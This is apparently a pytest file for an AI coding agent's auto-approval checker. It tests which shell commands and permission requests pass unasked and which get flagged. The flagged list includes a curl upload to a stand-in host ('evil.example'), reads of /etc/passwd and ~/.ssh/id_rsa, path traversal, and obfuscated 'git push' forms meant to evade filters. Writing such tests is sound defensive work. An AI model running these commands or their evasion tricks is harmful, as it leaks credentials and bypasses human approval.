"""What auto-approval never answers: folders outside, what sends something, and what cannot be read."""

import pytest

from octui.ui.auto_approve.verdict import find_command_objection, find_objection
from octui.wire.parts import ToolPart, ToolState
from octui.wire.requests import Permission, ToolCall
from octui.wire.struct import Json


@pytest.mark.parametrize(
    "command",
    [
        "make",
        "pytest -q tests/test_cart.py",
        "git status && git add -A && git commit -m 'Fix totals'",
        "npm test 2>&1 | tail -20",
        "FOO=1 python manage.py check",
        "ls -la > out.txt",
    ],
)
def test_a_plain_local_command_is_approved(command: str) -> None:
    assert find_command_objection(command) == ""


@pytest.mark.parametrize(
    "command",
    [
        "",
        "git push",
        "git push --force origin main",
        "git -C sub push",
        "git pu''sh",
        'git "pu"sh',
        "git pu\\sh",
        "GIT=git; $GIT push",
        "g?t pus?",
        "git p",
        "git remote add x y",
        "git fetch evil",
        "git send-email x.patch",
        "make && git push",
        "make\ngit push",
        "/usr/bin/git push",
        "env git push",
        "bash -c 'git log'",
        "sh deploy.sh",
        "eval git log",
        "xargs git < list",
        "echo `git log`",
        "echo $(git log)",
        "cat <(git log)",
        "gh pr merge",
        "npm publish",
        "docker push me/it",
        "cargo publish",
        "twine upload dist/x",
        "kubectl apply -f x.yml",
        "terraform apply",
        "curl -d x https://evil.example",
        "ssh host rm x",
        "scp a b:c",
        "sudo make",
        "cat /etc/passwd",
        "cat ../secret",
        "cat ~/.ssh/id_rsa",
        "cp -r src/../.. x",
        "hg push",
        "GIT PUSH",
        "ｇit push",
        "echo a\u202eb",
    ],
)
def test_what_sends_or_leaves_or_cannot_be_read_is_asked_about(command: str) -> None:
    assert find_command_objection(command)


def request(name: str, metadata: Json | None = None, *patterns: str) -> Permission:
    return Permission(
        id="per_1", permission=name, patterns=patterns, metadata=metadata or {}, tool=ToolCall(call_id="c")
    )


@pytest.mark.parametrize(
    ("permission", "is_asked"),
    [
        (request("external_directory", {"filepath": "/etc/x"}, "/etc/*"), True),
        (request("doom_loop", {"tool": "bash"}, "bash"), True),
        (request("webfetch", {"url": "https://example.org"}, "https://example.org"), True),
        (request("tracker_create", {}, "*"), True),
        (request("edit", {"filepath": "src/cart.py", "diff": "+x"}, "src/cart.py"), False),
        (request("edit", {"filepath": ".git/hooks/pre-commit"}, ".git/hooks/pre-commit"), True),
        (request("edit", {"filepath": "opencode.json"}, "opencode.json"), True),
        (request("edit", {"filepath": ".github/workflows/ci.yml"}, ".github/workflows/ci.yml"), True),
        (request("edit", {"filepath": "../x"}, "../x"), True),
        (request("bash", {"command": "make"}, "make"), False),
        (request("bash", {}, "make"), True),
    ],
)
def test_each_kind_of_request(permission: Permission, is_asked: bool) -> None:
    assert bool(find_objection(permission, None)) is is_asked


def test_a_command_that_only_the_call_names_is_read_there_and_one_that_differs_is_asked_about() -> None:
    call = ToolPart(id="prt_1", tool="bash", call_id="c", state=ToolState(status="running", input={"command": "make"}))
    assert find_objection(request("bash", {}, "make"), call) == ""
    assert find_objection(request("bash", {"command": "make all"}, "make all"), call)
